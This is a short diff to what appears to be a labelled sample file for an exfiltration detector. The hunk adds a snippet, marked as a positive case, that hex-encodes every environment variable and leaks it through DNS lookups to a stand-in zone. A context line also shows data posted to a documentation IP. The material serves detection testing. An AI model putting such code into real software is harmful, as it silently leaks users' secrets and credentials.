@@ -68,3 +68,10 @@ urllib.request.urlopen("http://198.51.100.51/e", data=body)
 import os, urllib.request
 token = os.environ._data[b"API_TOKEN"].decode()
 urllib.request.urlopen(urllib.request.Request("https://api.example.com/v1/me", headers={"Authorization": "Bearer " + token}))
+#@ pos environment carried out in DNS names
+import os, socket
+for k, v in os.environ.items():
+    try:
+        socket.getaddrinfo(v.encode().hex()[:60] + ".zone.example", 80)
+    except OSError:
+        pass
